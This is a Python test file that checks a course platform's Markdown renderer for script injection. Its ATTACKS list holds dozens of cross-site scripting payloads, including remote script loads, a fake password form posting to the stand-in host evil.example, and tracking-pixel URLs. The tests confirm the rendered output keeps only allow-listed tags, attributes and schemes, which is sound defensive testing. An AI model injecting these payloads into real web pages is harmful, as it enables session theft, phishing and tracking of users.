"""Markdown from whoever writes courses never becomes script, style, a form, a frame or a request to elsewhere."""

import random
from collections.abc import Iterator
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import html5lib
import pytest

from skills_centre.platform.markdown import render

TAGS = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "img", "div", "span"),
    *("table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"),
}
ATTRIBUTES = {
    "class",
    "href",
    "title",
    "rel",
    "src",
    "alt",
    "loading",
    "scope",
    "headers",
    "start",
    "tabindex",
    "role",
    "aria-label",
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/follows-you.gif)",
    "![x](//evil.example/follows-you.gif)",
    '![x](media/a.png "onload=alert(1)")',
    '![" onerror="alert(1)](media/a.png)',
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[a](https://a.example 'x' onclick='alert(1)')",
    '```"><script>alert(1)</script>\ncode\n```',
    "```js onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '| <script>alert(1)</script> | " onfocus=alert(1) autofocus=" |\n|---|---|\n| [x](javascript:alert(1)) | <b onclick=alert(1)>x</b> |',
    ":::exercise <script>alert(1)</script>\n<img src=x onerror=alert(1)>\n:::",
    ':::local-policy "><script>alert(1)</script>\nx\n:::',
    ":::script\nalert(1)\n:::",
    "# <img src=x onerror=alert(1)>\n\n> <svg onload=alert(1)>\n>\n> 1. [x](javascript:alert(1))\n>    - ![x](javascript:alert(1))",
    "*[**[x](javascript:alert(1))**](javascript:alert(2))*",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>\u0000<script>alert(2)</script>",
    "<a\x0chref=javascript:alert(1)>x</a>",
    "<p title='" + "<" * 500 + "script>alert(1)</script>",
]


def elements(html: str) -> Iterator[Element]:
    """What a browser makes of it."""
    yield from html5lib.parseFragment(html, namespaceHTMLElements=False).iter()


def problems(html: str) -> list[str]:
    """Everything in some HTML that our Markdown must never give."""
    found = []
    for element in elements(html):
        tag = str(element.tag)
        if tag not in TAGS | {"DOCUMENT_FRAGMENT"}:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            if str(name) not in ATTRIBUTES:
                found.append(f"{tag} {name}={value}")
            if name == "href" and urlsplit("".join(value.split())).scheme.casefold() not in {
                "",
                "http",
                "https",
                "mailto",
            }:
                found.append(f"{tag} {name}={value}")
            if name == "src" and not value.startswith("/media/"):
                found.append(f"{tag} {name}={value}")
    return found


def everywhere(attack: str) -> list[str]:
    """The attack as a lesson, as the institution's words in a lesson, and without media."""
    lesson = ":::local-policy tools\nTo be written\n:::"
    return [
        str(render(attack, media_address=lambda path: f"/media/{path}")),
        str(render(attack)),
        str(render(lesson, policies={"tools": attack}, media_address=lambda path: f"/media/{path}")),
        str(render(f"- one\n\n  {attack}\n\n> {attack}\n\n:::example\n{attack}\n:::")),
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_as_harmless_words(attack: str) -> None:
    for html in everywhere(attack):
        assert problems(html) == []


def test_attacks_mixed_at_random_stay_harmless() -> None:
    dice = random.Random(20261125)  # the same mixes on every run
    joints = ["", " ", "\n", "\n\n", "|", "`", "*", "[", "](", ")", ">", "\n:::exercise\n", "\n:::\n", "\x00", '"', "<"]
    for _ in range(400):
        mixed = "".join(
            attack[: dice.randint(1, len(attack))] + dice.choice(joints) for attack in dice.sample(ATTACKS, 4)
        )
        html = str(render(mixed, media_address=lambda path: f"/media/{path}"))
        assert problems(html) == [], mixed


def test_what_teaches_is_left_alone() -> None:
    text = "## Ask\n\nA [link](https://a.example), [mail](mailto:a@b.example), ![a cup](media/cup.png).\n\n| a |\n|---|\n| 1 |"
    html = str(render(text, media_address=lambda path: f"/{path}"))
    for kept in (
        "<h2",
        'href="https://a.example"',
        'rel="noopener noreferrer external"',
        'src="/media/cup.png"',
        "<table",
    ):
        assert kept in html
    assert 'href="mailto:a@b.example"' in html
